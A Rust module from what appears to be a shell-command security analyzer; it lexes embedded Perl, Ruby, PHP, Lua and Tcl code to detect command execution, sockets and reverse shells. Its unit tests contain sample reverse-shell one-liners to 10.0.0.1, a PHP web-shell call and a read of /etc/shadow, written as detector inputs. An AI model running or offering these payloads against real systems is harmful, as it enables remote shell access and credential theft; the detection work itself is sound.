//! Code of other interpreters inside a shell command: the programs given to
//! `perl -e`, `ruby -e`, `php -r`, `lua -e`, `expect -c`/`tclsh`, and the
//! `system("...")` one-liners of R, gnuplot, octave, slsh and friends.
//!
//! There is no Perl, Ruby, PHP, Lua or Tcl parser here: a small lexer per
//! family reads string literals with that language's quoting (single quotes
//! literal, double quotes with `$x`/`#{x}` interpolation read as unknown,
//! backticks, `qx{}`, `%x()`, Lua long strings) and finds the calls that run
//! a command (`system`, `exec`, `passthru`, `shell_exec`, `proc_open`,
//! `popen`, `pcntl_exec`, `spawn`, `IO.popen`, `os.execute`, `io.popen`,
//! Perl's piped `open`, and Tcl's `exec`/`spawn`/`open "|..."` read in
//! `tcl`) with their
//! literal arguments. The command string found is analysed by the Bash
//! analyzer, as Python's `os.system` is; a list of arguments
//! (`exec("/bin/sh", "-i")`) is quoted word by word first.
//!
//! What is seen: literal arguments, literals joined with the language's
//! concatenation operator, and the socket and network APIs by name
//! (`fsockopen`, `IO::Socket::INET`, `TCPSocket`, `TCPServer`, `socket.tcp`,
//! `URI.open`, `file_get_contents("http...")`, Tcl `socket`). What is not:
//! values built in variables, `eval` of strings, aliases of these functions.
//! A call whose argument is not a literal is `dynamic-code`; an exec name
//! the lexer could not read as a call (a quote inside a regex can hide it)
//! is `dynamic-code` too, so a lexing error fails towards review.
//! This module reports facts and never decides a verdict.

use crate::analyze::bash::paths;
use crate::analyze::bash::walk::{Analyzer, R};
use crate::analyze::bash::words::Word;
use crate::analyze::Span;
use crate::analyze::{AnalyzeError, FactKind};

/// The interpreter families whose programs this module reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(in crate::analyze::bash) enum Interp {
    Perl,
    Ruby,
    Php,
    Lua,
    /// Tcl: expect, tclsh, wish.
    Tcl,
    /// Languages where `system("cmd")` is the only form looked for (R,
    /// gnuplot, octave, slsh, julia, bpftrace ...).
    Generic,
}

/// At most this many tokens of one program are read.
const MAX_TOKENS: usize = 50_000;
/// At most this many commands of one program are analysed.
pub(super) const MAX_COMMANDS: usize = 32;

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Ident(String),
    Str(Word),
    /// Backticks, `qx{}`, `%x()`: a shell command.
    Cmd(Word),
    Var,
    Punct(char),
    /// `=>` (a comma in Perl, a hash pair in Ruby).
    Arrow,
    Newline,
}

/// What a program does, as far as the lexical scan sees.
#[derive(Debug, Default, Clone)]
pub(super) struct Scan {
    /// Commands it runs: (the call, the command as a shell string).
    pub commands: Vec<(String, Word)>,
    /// A call that runs a command built at run time.
    pub dynamic: bool,
    /// Opens an outgoing socket or fetches a URL.
    pub network: bool,
    /// Listens on a socket.
    pub server: bool,
    /// Redirects its standard streams (dup2, reopen, fdopen, `>&S`).
    pub dup: bool,
    /// URLs given to network calls.
    pub urls: Vec<String>,
}

/// Shell-quotes one argument word so the joined command reads as argv.
pub(super) fn quote_into(out: &mut Word, w: &Word) {
    if let Some(c) = w.constant() {
        if !c.is_empty()
            && c.chars()
                .all(|ch| ch.is_ascii_alphanumeric() || "/._-=:,+@%".contains(ch))
        {
            out.push_lit(&c);
            return;
        }
        out.push_lit(&format!("'{}'", c.replace('\'', "'\\''")));
        return;
    }
    out.push_lit("'");
    out.append(w.clone());
    out.push_lit("'");
}

fn argv_command(args: &[Word]) -> Word {
    let mut out = Word::default();
    for (i, a) in args.iter().enumerate() {
        if i > 0 {
            out.push_lit(" ");
        }
        quote_into(&mut out, a);
    }
    out
}

pub(super) fn ident_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

fn closing(open: char) -> char {
    match open {
        '(' => ')',
        '[' => ']',
        '{' => '}',
        '<' => '>',
        c => c,
    }
}

/// Reads a quoted string body from `chars[i]` (just after the opening
/// delimiter) to the closing one; returns the value and the index after it.
fn read_quoted(
    chars: &[char],
    mut i: usize,
    open: char,
    interpolate: bool,
    interp: Interp,
) -> (Word, usize) {
    let close = closing(open);
    let mut w = Word::default();
    let mut depth = 0usize;
    while i < chars.len() {
        let c = chars[i];
        if c == '\\' && i + 1 < chars.len() {
            let n = chars[i + 1];
            if interpolate {
                let v = match n {
                    'n' => '\n',
                    't' => '\t',
                    'r' => '\r',
                    'e' => '\u{1b}',
                    '0' => '\0',
                    other => other,
                };
                w.push_lit(&v.to_string());
            } else if n == close || n == '\\' || n == open {
                w.push_lit(&n.to_string());
            } else {
                w.push_lit(&format!("\\{n}"));
            }
            i += 2;
            continue;
        }
        if c == open && open != close {
            depth += 1;
        } else if c == close {
            if depth == 0 {
                return (w, i + 1);
            }
            depth -= 1;
        }
        if interpolate {
            let next = chars.get(i + 1).copied().unwrap_or(' ');
            let starts_var = match interp {
                Interp::Perl => (c == '$' || c == '@') && (ident_char(next) || next == '{'),
                Interp::Php => c == '$' && (ident_char(next) || next == '{'),
                Interp::Ruby => c == '#' && next == '{',
                _ => false,
            };
            if starts_var {
                w.push_unknown();
                i += 1;
                if next == '{' {
                    let mut d = 0usize;
                    while i < chars.len() {
                        match chars[i] {
                            '{' => d += 1,
                            '}' => {
                                d = d.saturating_sub(1);
                                if d == 0 {
                                    break;
                                }
                            }
                            _ => {}
                        }
                        i += 1;
                    }
                    i += 1;
                } else {
                    while i < chars.len() && ident_char(chars[i]) {
                        i += 1;
                    }
                    // `$a->b`, `$a[0]`, `$h{k}`: still the same value.
                    if interp == Interp::Perl && i < chars.len() && chars[i] == '[' {
                        while i < chars.len() && chars[i] != ']' {
                            i += 1;
                        }
                        i += 1;
                    }
                }
                continue;
            }
        }
        w.push_lit(&c.to_string());
        i += 1;
    }
    (w, i)
}

/// Whether a `/` at this point starts a regex (an operand is expected).
fn regex_position(prev: Option<&Tok>) -> bool {
    match prev {
        None => true,
        Some(Tok::Punct(c)) => !matches!(c, ')' | ']' | '}'),
        Some(Tok::Arrow) | Some(Tok::Newline) => true,
        Some(Tok::Ident(i)) => matches!(
            i.as_str(),
            "split" | "if" | "unless" | "and" | "or" | "not" | "return" | "when" | "grep" | "map"
        ),
        _ => false,
    }
}

fn lex(interp: Interp, code: &str) -> Vec<Tok> {
    let chars: Vec<char> = code.chars().collect();
    let mut toks: Vec<Tok> = Vec::new();
    let mut i = 0;
    let perlish = matches!(interp, Interp::Perl | Interp::Ruby);
    while i < chars.len() && toks.len() < MAX_TOKENS {
        let c = chars[i];
        let next = chars.get(i + 1).copied().unwrap_or('\0');
        if c == '\n' {
            toks.push(Tok::Newline);
            i += 1;
            continue;
        }
        if c.is_whitespace() {
            i += 1;
            continue;
        }
        // Lua comments and long strings.
        if interp == Interp::Lua && c == '-' && next == '-' {
            while i < chars.len() && chars[i] != '\n' {
                i += 1;
            }
            continue;
        }
        if interp == Interp::Lua && c == '[' && (next == '[' || next == '=') {
            let mut j = i + 1;
            let mut level = 0;
            while j < chars.len() && chars[j] == '=' {
                level += 1;
                j += 1;
            }
            if j < chars.len() && chars[j] == '[' {
                let close: String = std::iter::once(']')
                    .chain(std::iter::repeat_n('=', level))
                    .chain(std::iter::once(']'))
                    .collect();
                let body: String = chars[j + 1..].iter().collect();
                let (text, used) = match body.find(&close) {
                    Some(e) => (body[..e].to_string(), e + close.len()),
                    None => (body.clone(), body.len()),
                };
                toks.push(Tok::Str(Word::lit(text.trim_start_matches('\n'))));
                i = j + 1 + body[..used].chars().count();
                continue;
            }
        }
        if c == '\'' {
            let (w, j) = read_quoted(&chars, i + 1, '\'', interp == Interp::Lua, interp);
            toks.push(Tok::Str(w));
            i = j;
            continue;
        }
        if c == '"' {
            let (w, j) = read_quoted(&chars, i + 1, '"', true, interp);
            toks.push(Tok::Str(w));
            i = j;
            continue;
        }
        if c == '`'
            && matches!(
                interp,
                Interp::Perl | Interp::Ruby | Interp::Php | Interp::Generic
            )
        {
            let (w, j) = read_quoted(&chars, i + 1, '`', true, interp);
            toks.push(Tok::Cmd(w));
            i = j;
            continue;
        }
        if c == '$' || (c == '@' && interp == Interp::Perl) {
            i += 1;
            if i < chars.len() && chars[i] == '{' {
                while i < chars.len() && chars[i] != '}' {
                    i += 1;
                }
                i += 1;
            } else {
                // `$_`, `$0`, `$~`, `$name`, `$::x`.
                if i < chars.len() && !ident_char(chars[i]) && chars[i] != ':' {
                    i += 1;
                }
                while i < chars.len() && (ident_char(chars[i]) || chars[i] == ':') {
                    i += 1;
                }
            }
            toks.push(Tok::Var);
            continue;
        }
        if c == '=' && next == '>' {
            toks.push(Tok::Arrow);
            i += 2;
            continue;
        }
        // Ruby's %x() and friends.
        if interp == Interp::Ruby && c == '%' {
            let (kind, open_at) = if "xqQwWi".contains(next) {
                (Some(next), i + 2)
            } else {
                (None, i + 1)
            };
            if let Some(&d) = chars.get(open_at) {
                if "({[<|!/".contains(d) {
                    let (w, j) = read_quoted(&chars, open_at + 1, d, kind != Some('q'), interp);
                    toks.push(if kind == Some('x') {
                        Tok::Cmd(w)
                    } else {
                        Tok::Str(w)
                    });
                    i = j;
                    continue;
                }
            }
        }
        if c == '/' && perlish && regex_position(toks.last()) {
            let (_, j) = read_quoted(&chars, i + 1, '/', false, interp);
            toks.push(Tok::Str(Word::unknown()));
            i = j;
            continue;
        }
        if ident_char(c) {
            let mut j = i;
            while j < chars.len()
                && (ident_char(chars[j])
                    || (chars[j] == ':' && chars.get(j + 1) == Some(&':'))
                    || (chars[j] == ':' && j > 0 && chars[j - 1] == ':')
                    || (chars[j] == '.'
                        && !matches!(interp, Interp::Perl | Interp::Php)
                        && chars.get(j + 1).is_some_and(|n| n.is_ascii_alphabetic())))
            {
                j += 1;
            }
            let word: String = chars[i..j].iter().collect();
            i = j;
            // Perl quote-like operators and regexes.
            if interp == Interp::Perl {
                let delim = chars.get(i).copied().filter(|d| {
                    !d.is_whitespace() && !ident_char(*d) && !matches!(d, ',' | ';' | ')' | '=')
                });
                if let Some(d) = delim {
                    match word.as_str() {
                        "q" | "qq" | "qx" | "qw" => {
                            let (w, j) = read_quoted(&chars, i + 1, d, word != "q", interp);
                            i = j;
                            toks.push(if word == "qx" {
                                Tok::Cmd(w)
                            } else {
                                Tok::Str(w)
                            });
                            continue;
                        }
                        "m" | "qr" => {
                            let (_, j) = read_quoted(&chars, i + 1, d, false, interp);
                            i = j;
                            toks.push(Tok::Str(Word::unknown()));
                            continue;
                        }
                        "s" | "tr" | "y" => {
                            let (_, j) = read_quoted(&chars, i + 1, d, false, interp);
                            i = j;
                            if closing(d) != d {
                                while i < chars.len() && chars[i].is_whitespace() {
                                    i += 1;
                                }
                                if let Some(&d2) = chars.get(i) {
                                    let (_, j) = read_quoted(&chars, i + 1, d2, false, interp);
                                    i = j;
                                }
                            } else {
                                let (_, j) = read_quoted(&chars, i, d, false, interp);
                                i = j;
                            }
                            while i < chars.len() && chars[i].is_ascii_alphabetic() {
                                i += 1;
                            }
                            toks.push(Tok::Str(Word::unknown()));
                            continue;
                        }
                        _ => {}
                    }
                }
            }
            toks.push(Tok::Ident(word));
            continue;
        }
        toks.push(Tok::Punct(c));
        i += 1;
    }
    toks
}

/// How a call's arguments become a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Call {
    /// One argument is a shell command; several are an argument vector.
    ShellOrArgv,
    /// The first argument is the command (PHP's extra arguments are outputs).
    First,
    /// A program path and an array of its arguments (`pcntl_exec`).
    Argv,
    /// `open(F, "cmd |")`, `open(F, "-|", "cmd")`, Ruby `open("|cmd")`.
    OpenPipe,
}

fn call_kind(interp: Interp, name: &str) -> Option<Call> {
    let last = name.rsplit(['.', ':']).next().unwrap_or(name);
    let qual = name.len() > last.len();
    let q = name.trim_end_matches(last).trim_end_matches(['.', ':']);
    match interp {
        Interp::Perl => match name {
            "system" | "exec" | "CORE::system" | "CORE::exec" => Some(Call::ShellOrArgv),
            "readpipe" => Some(Call::First),
            "open" | "CORE::open" => Some(Call::OpenPipe),
            _ => None,
        },
        Interp::Ruby => match (q, last) {
            ("" | "Kernel" | "Process", "system" | "exec" | "spawn") => Some(Call::ShellOrArgv),
            ("IO", "popen") => Some(Call::First),
            ("PTY", "spawn") => Some(Call::ShellOrArgv),
            ("Open3", _) if last.starts_with("popen") || last.starts_with("capture") => {
                Some(Call::ShellOrArgv)
            }
            ("" | "Kernel" | "URI", "open") if !qual || q == "Kernel" => Some(Call::OpenPipe),
            _ => None,
        },
        Interp::Php => match name {
            "system" | "exec" | "passthru" | "shell_exec" | "popen" | "proc_open" => {
                Some(Call::First)
            }
            "pcntl_exec" => Some(Call::Argv),
            _ => None,
        },
        Interp::Lua => match name {
            "os.execute" | "io.popen" => Some(Call::First),
            _ => None,
        },
        Interp::Generic => match last {
            "system" | "shell" | "exec" | "callCommand" | "spawnCommand" | "run-shell-command" => {
                Some(Call::First)
            }
            _ => None,
        },
        Interp::Tcl => None,
    }
}

/// Names of socket, HTTP and listener APIs per family.
fn network_name(interp: Interp, name: &str) -> (bool, bool) {
    let n = name;
    let outbound = match interp {
        Interp::Perl => {
            n.starts_with("IO::Socket")
                || n.starts_with("LWP")
                || n.starts_with("Net::")
                || n.starts_with("HTTP::")
                || matches!(n, "socket" | "connect" | "getstore" | "getprint")
        }
        Interp::Ruby => {
            n.starts_with("TCPSocket")
                || n.starts_with("UDPSocket")
                || n.starts_with("Socket.")
                || n.starts_with("Net::")
                || n.starts_with("URI.open")
                || n.starts_with("OpenURI")
        }
        Interp::Php => matches!(
            n,
            "fsockopen"
                | "pfsockopen"
                | "stream_socket_client"
                | "socket_create"
                | "socket_connect"
                | "curl_exec"
                | "curl_init"
        ),
        Interp::Lua => n.starts_with("socket.") || n.starts_with("http.request"),
        Interp::Generic => matches!(n, "connect" | "Socket" | "socket"),
        Interp::Tcl => false,
    };
    let server = match interp {
        Interp::Perl => matches!(n, "Listen" | "LocalPort" | "listen" | "bind"),
        Interp::Ruby => n.starts_with("TCPServer") || n.starts_with("WEBrick"),
        Interp::Php => matches!(n, "stream_socket_server" | "socket_bind" | "socket_listen"),
        Interp::Lua => matches!(n, "socket.bind"),
        _ => false,
    };
    (outbound || server, server)
}

/// Calls that fetch a URL when given one.
fn url_reader(interp: Interp, name: &str) -> bool {
    match interp {
        Interp::Php => matches!(
            name,
            "file_get_contents" | "fopen" | "file" | "copy" | "readfile" | "include" | "require"
        ),
        Interp::Ruby => matches!(name, "open" | "URI.open" | "Kernel.open"),
        Interp::Perl => matches!(name, "get" | "getstore" | "getprint" | "head"),
        _ => false,
    }
}

/// The argument list after a call name at `toks[i]`: each argument's tokens.
fn call_args(toks: &[Tok], i: usize, interp: Interp) -> (Vec<Vec<Tok>>, bool) {
    let mut j = i + 1;
    let paren = matches!(toks.get(j), Some(Tok::Punct('(')));
    let bare_ok = matches!(interp, Interp::Perl | Interp::Ruby);
    if !paren && !bare_ok {
        return (Vec::new(), false);
    }
    if paren {
        j += 1;
    }
    let mut args: Vec<Vec<Tok>> = vec![Vec::new()];
    let mut depth = 0usize;
    while let Some(t) = toks.get(j) {
        match t {
            Tok::Punct('(') | Tok::Punct('[') | Tok::Punct('{') => depth += 1,
            Tok::Punct(')') | Tok::Punct(']') | Tok::Punct('}') => {
                if depth == 0 {
                    break;
                }
                depth -= 1;
            }
            // `=>` separates arguments in Perl; in Ruby it pairs an option
            // hash's key with its value, which stay one argument.
            Tok::Punct(',') if depth == 0 => {
                args.push(Vec::new());
                j += 1;
                continue;
            }
            Tok::Arrow if depth == 0 && interp == Interp::Perl => {
                args.push(Vec::new());
                j += 1;
                continue;
            }
            Tok::Punct(';') | Tok::Newline if depth == 0 && !paren => break,
            Tok::Ident(w)
                if depth == 0
                    && !paren
                    && matches!(
                        w.as_str(),
                        "if" | "unless" | "while" | "until" | "or" | "and" | "for" | "foreach"
                    ) =>
            {
                break
            }
            _ => {}
        }
        if let Some(last) = args.last_mut() {
            last.push(t.clone());
        }
        j += 1;
    }
    args.retain(|a| !a.is_empty());
    (args, true)
}

/// The value of one argument: a literal or literals joined by `.`/`+`/`..`.
fn arg_value(arg: &[Tok]) -> Option<Word> {
    let mut out = Word::default();
    let mut expect_str = true;
    let mut any = false;
    for t in arg {
        match (expect_str, t) {
            (true, Tok::Str(w)) => {
                out.append(w.clone());
                expect_str = false;
                any = true;
            }
            (false, Tok::Punct('.') | Tok::Punct('+')) => expect_str = true,
            (_, Tok::Punct('@')) => {}
            _ => return None,
        }
    }
    any.then_some(out)
}

/// The literal items of an array argument `[ "a", "b" ]` / `array("a")`.
fn array_items(arg: &[Tok]) -> Option<Vec<Word>> {
    let inner: &[Tok] = match arg {
        [Tok::Punct('['), mid @ .., Tok::Punct(']')] => mid,
        [Tok::Ident(a), Tok::Punct('('), mid @ .., Tok::Punct(')')] if a == "array" => mid,
        _ => return None,
    };
    let mut items = Vec::new();
    for part in inner.split(|t| matches!(t, Tok::Punct(','))) {
        if part.is_empty() {
            continue;
        }
        items.push(arg_value(part).unwrap_or_else(Word::unknown));
    }
    Some(items)
}

/// A Ruby/Perl argument that is an option or redirection, not a word of
/// the command (`[:in, :out] => sock`, `{unsetenv_others: true}`, `:err`).
fn is_option_arg(arg: &[Tok]) -> bool {
    matches!(arg.first(), Some(Tok::Punct('{')) | Some(Tok::Punct(':')))
        || arg.iter().any(|t| matches!(t, Tok::Arrow))
        || matches!(arg, [Tok::Punct('['), Tok::Punct(':'), ..])
}

pub(super) fn piped_open(arg: &Word) -> Option<Word> {
    let text = arg.constant();
    let known = arg.known_text();
    let t = known.trim();
    if let Some(rest) = t.strip_prefix('|') {
        return Some(match text {
            Some(_) => Word::lit(rest.trim()),
            None => Word::unknown(),
        });
    }
    if let Some(rest) = t.strip_suffix('|') {
        return Some(match text {
            Some(_) => Word::lit(rest.trim()),
            None => Word::unknown(),
        });
    }
    None
}

/// Scans a program of a C-like or script family for commands, sockets and URLs.
pub(super) fn scan(interp: Interp, code: &str) -> Scan {
    if interp == Interp::Tcl {
        return super::tcl::scan_tcl(code, 0);
    }
    let toks = lex(interp, code);
    let mut s = Scan::default();
    let mut calls_seen = 0usize;
    for (i, t) in toks.iter().enumerate() {
        if s.commands.len() >= MAX_COMMANDS {
            break;
        }
        let name = match t {
            Tok::Cmd(w) => {
                s.commands.push(("`...`".into(), w.clone()));
                calls_seen += 1;
                continue;
            }
            Tok::Ident(n) => n,
            Tok::Str(w) => {
                // Perl's `open(STDIN, ">&S")`: a standard stream onto a handle.
                let t = w.known_text();
                if t.starts_with(">&") || t.starts_with("<&") || t.starts_with("+<&") {
                    s.dup = true;
                }
                continue;
            }
            _ => continue,
        };
        // A method call on something else (`$obj->system`) is not the builtin.
        let method = i > 0
            && matches!(toks[i - 1], Tok::Punct('>') | Tok::Punct('.'))
            && interp != Interp::Lua;
        let (net, server) = network_name(interp, name);
        if net {
            s.network = true;
        }
        s.server |= server;
        if matches!(
            name.rsplit(['.', ':']).next().unwrap_or(""),
            "dup2" | "reopen" | "fdopen"
        ) {
            s.dup = true;
        }
        let (args, _) = call_args(&toks, i, interp);
        // Lua's `require("socket")`, Perl's `use IO::Socket` arrive as strings.
        if interp == Interp::Lua && name == "require" {
            let m = args
                .first()
                .and_then(|a| arg_value(a))
                .and_then(|w| w.constant());
            if m.is_some_and(|m| m.starts_with("socket") || m.starts_with("http")) {
                s.network = true;
            }
        }
        if url_reader(interp, name) {
            if let Some(u) = args
                .first()
                .and_then(|a| arg_value(a))
                .and_then(|w| w.constant())
            {
                let lower = u.to_ascii_lowercase();
                if lower.starts_with("http://")
                    || lower.starts_with("https://")
                    || lower.starts_with("ftp://")
                {
                    s.network = true;
                    s.urls.push(u);
                }
            }
        }
        if method {
            continue;
        }
        let Some(kind) = call_kind(interp, name) else {
            continue;
        };
        calls_seen += 1;
        let words: Vec<&Vec<Tok>> = args.iter().filter(|a| !is_option_arg(a)).collect();
        let cmd = match kind {
            Call::First => match words.first() {
                Some(a) => match (arg_value(a), array_items(a)) {
                    (Some(w), _) => Some(w),
                    (None, Some(items)) => Some(argv_command(&items)),
                    _ => None,
                },
                None => {
                    // `system $_` in Perl style without parentheses, or nothing.
                    s.dynamic |= !args.is_empty();
                    continue;
                }
            },
            Call::ShellOrArgv => {
                let mut items = Vec::new();
                let mut known = true;
                for a in &words {
                    match (arg_value(a), array_items(a)) {
                        (Some(w), _) => items.push(w),
                        (None, Some(mut more)) => items.append(&mut more),
                        _ => known = false,
                    }
                }
                match (known, items.len()) {
                    (_, 0) => None,
                    (true, 1) => items.pop(),
                    (true, _) => Some(argv_command(&items)),
                    (false, _) => None,
                }
            }
            Call::Argv => {
                let mut items = Vec::new();
                for a in &words {
                    match (arg_value(a), array_items(a)) {
                        (Some(w), _) => items.push(w),
                        (None, Some(mut more)) => items.append(&mut more),
                        _ => items.push(Word::unknown()),
                    }
                }
                (!items.is_empty()).then(|| argv_command(&items))
            }
            Call::OpenPipe => {
                let vals: Vec<Option<Word>> = args.iter().map(|a| arg_value(a)).collect();
                let mode = vals.get(1).cloned().flatten().and_then(|w| w.constant());
                match mode.as_deref() {
                    Some("-|") | Some("|-") => {
                        let rest: Vec<Word> = vals[2..]
                            .iter()
                            .map(|v| v.clone().unwrap_or_else(Word::unknown))
                            .collect();
                        if rest.len() == 1 {
                            rest.into_iter().next()
                        } else if rest.is_empty() {
                            None
                        } else {
                            Some(argv_command(&rest))
                        }
                    }
                    _ => {
                        let path_arg = if interp == Interp::Ruby { 0 } else { 1 };
                        match vals.get(path_arg).cloned().flatten() {
                            Some(w) => {
                                if let Some(p) = piped_open(&w) {
                                    Some(p)
                                } else {
                                    calls_seen -= 1;
                                    continue;
                                }
                            }
                            None => {
                                calls_seen -= 1;
                                continue;
                            }
                        }
                    }
                }
            }
        };
        match cmd {
            Some(w) => s.commands.push((name.clone(), w)),
            None => s.dynamic = true,
        }
    }
    // Fail towards review: an exec name the lexer did not read as a call.
    if calls_seen == 0 && mentions_exec(interp, code) {
        s.dynamic = true;
    }
    s
}

/// Whether the raw text names an exec function followed by a call.
fn mentions_exec(interp: Interp, code: &str) -> bool {
    let names: &[&str] = match interp {
        Interp::Perl => &["system", "exec", "qx", "readpipe"],
        Interp::Ruby => &["system", "exec", "spawn", "popen", "%x"],
        Interp::Php => &[
            "system",
            "exec",
            "passthru",
            "shell_exec",
            "popen",
            "proc_open",
            "pcntl_exec",
        ],
        Interp::Lua => &["os.execute", "io.popen"],
        Interp::Generic => &["system"],
        Interp::Tcl => &[],
    };
    names.iter().any(|n| {
        code.match_indices(n).any(|(at, _)| {
            let before = code[..at].chars().next_back();
            let after = code[at + n.len()..].chars().next();
            let next = code[at + n.len()..].trim_start().chars().next();
            !before.is_some_and(ident_char)
                && !after.is_some_and(ident_char)
                && next.is_some_and(|c| "($@\"'`{[".contains(c))
        })
    })
}

impl<'s> Analyzer<'s> {
    /// Analyses a command found by a lexical scan. A command that does not
    /// parse is held for review as dynamic code rather than failing the
    /// whole analysis: the scan, not the submitter, may have cut it wrong.
    pub(super) fn lexed_payload(
        &mut self,
        lang: super::Lang,
        code: &str,
        via: Vec<String>,
        span: Span,
    ) -> R<()> {
        match self.payload(lang, code, via, span) {
            Err(AnalyzeError::Unparseable { .. }) => {
                self.signal("dynamic-code", span);
                Ok(())
            }
            r => r,
        }
    }

    /// Analyses a program of another interpreter: its commands with the
    /// Bash analyzer, its sockets and URLs as signals.
    pub(super) fn embedded(
        &mut self,
        interp: Interp,
        code: &str,
        via: &[String],
        span: Span,
    ) -> R<()> {
        let s = scan(interp, code);
        let mut shell_like = false;
        for (call, w) in &s.commands {
            match w.constant() {
                Some(text) => {
                    let first = text.split_whitespace().next().unwrap_or("");
                    let base = paths::basename(first);
                    shell_like |= super::interpreters::interp_lang(base).is_some()
                        || text.contains("/dev/tcp/");
                    let mut chain = via.to_vec();
                    chain.push(call.clone());
                    self.lexed_payload(super::Lang::Bash, &text, chain, span)?;
                }
                None => {
                    shell_like = true;
                    self.signal("dynamic-code", span);
                }
            }
        }
        if s.dynamic {
            self.signal("dynamic-code", span);
        }
        for u in &s.urls {
            if paths::is_cloud_metadata(u) {
                self.signal("cloud-metadata", span);
            }
            self.emit(FactKind::String, u.clone(), Vec::new(), span);
        }
        if s.network {
            self.signal("embedded-network", span);
            self.net_sink.get_or_insert(span);
        }
        if s.server {
            self.signal("network-server", span);
        }
        let runs = !s.commands.is_empty() || s.dynamic;
        if s.network && runs && (shell_like || s.dup || s.dynamic) {
            self.signal("reverse-shell", span);
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmds(interp: Interp, code: &str) -> Vec<String> {
        scan(interp, code)
            .commands
            .iter()
            .map(|(_, w)| w.lossy())
            .collect()
    }

    #[test]
    fn perl_calls() {
        assert_eq!(cmds(Interp::Perl, r#"exec "/bin/sh""#), ["/bin/sh"]);
        assert_eq!(
            cmds(Interp::Perl, r#"system("id"); exec('/bin/sh', '-i');"#),
            ["id", "/bin/sh -i"]
        );
        assert_eq!(cmds(Interp::Perl, r#"$x = `uname -a`;"#), ["uname -a"]);
        assert_eq!(
            cmds(Interp::Perl, r#"print qx{cat /etc/shadow};"#),
            ["cat /etc/shadow"]
        );
        assert_eq!(
            cmds(Interp::Perl, r#"open(F, "nc -e /bin/sh 10.0.0.1 1|");"#),
            ["nc -e /bin/sh 10.0.0.1 1"]
        );
        assert_eq!(
            cmds(Interp::Perl, r#"open(my $f, "<", "/etc/hosts");"#),
            Vec::<String>::new()
        );
        let s = scan(
            Interp::Perl,
            r#"$c=new IO::Socket::INET(PeerAddr,"h:1");system$_ while<>;"#,
        );
        assert!(s.network && s.dynamic);
        // A quote in a substitution does not swallow what follows.
        assert_eq!(cmds(Interp::Perl, r#"s/"//g; system("id")"#), ["id"]);
        assert_eq!(
            cmds(Interp::Perl, r#"print "system is up""#),
            Vec::<String>::new()
        );
        assert!(!scan(Interp::Perl, r#"print "system is up""#).dynamic);
    }

    #[test]
    fn ruby_calls() {
        assert_eq!(cmds(Interp::Ruby, r#"exec "/bin/sh""#), ["/bin/sh"]);
        let s = scan(
            Interp::Ruby,
            r#"spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.0.0.1",8443))"#,
        );
        assert_eq!(s.commands.len(), 1);
        assert_eq!(s.commands[0].1.lossy(), "sh");
        assert!(s.network);
        assert!(scan(Interp::Ruby, r#"f=TCPServer.new(9001)"#).server);
        assert_eq!(cmds(Interp::Ruby, r#"IO.popen("id #{x}")"#), ["id *"]);
        assert_eq!(cmds(Interp::Ruby, r#"puts %x(whoami)"#), ["whoami"]);
    }

    #[test]
    fn php_calls() {
        assert_eq!(
            cmds(Interp::Php, r#"$r=array(); exec("nc -e /bin/sh h 4", $r);"#),
            ["nc -e /bin/sh h 4"]
        );
        assert_eq!(
            cmds(Interp::Php, r#"pcntl_exec("/bin/sh", ["-p"]);"#),
            ["/bin/sh -p"]
        );
        let s = scan(
            Interp::Php,
            r#"$s=fsockopen("10.0.0.1",4444);proc_open("bash",[$s,$s,$s],$p);"#,
        );
        assert!(s.network);
        assert_eq!(s.commands[0].1.lossy(), "bash");
        let s = scan(
            Interp::Php,
            r#"echo file_get_contents("http://x.example/a");"#,
        );
        assert!(s.network);
        assert_eq!(s.urls, ["http://x.example/a"]);
        assert!(scan(Interp::Php, r#"system($_GET["c"]);"#).dynamic);
    }

    #[test]
    fn lua_and_tcl() {
        assert_eq!(cmds(Interp::Lua, r#"os.execute("/bin/sh")"#), ["/bin/sh"]);
        assert_eq!(cmds(Interp::Lua, "io.popen([[id]])"), ["id"]);
        assert!(scan(Interp::Lua, r#"local s=require("socket").tcp()"#).network);
        assert_eq!(cmds(Interp::Tcl, "spawn /bin/sh;interact"), ["/bin/sh"]);
        assert_eq!(
            cmds(Interp::Tcl, "set s [socket h 1]\nexec /bin/sh -c {id} <@$s"),
            ["/bin/sh -c id '<@*'"]
        );
        assert!(scan(Interp::Tcl, "socket -server x 9000").server);
        assert_eq!(cmds(Interp::Tcl, "puts {exec /bin/sh}"), ["/bin/sh"]);
    }
}
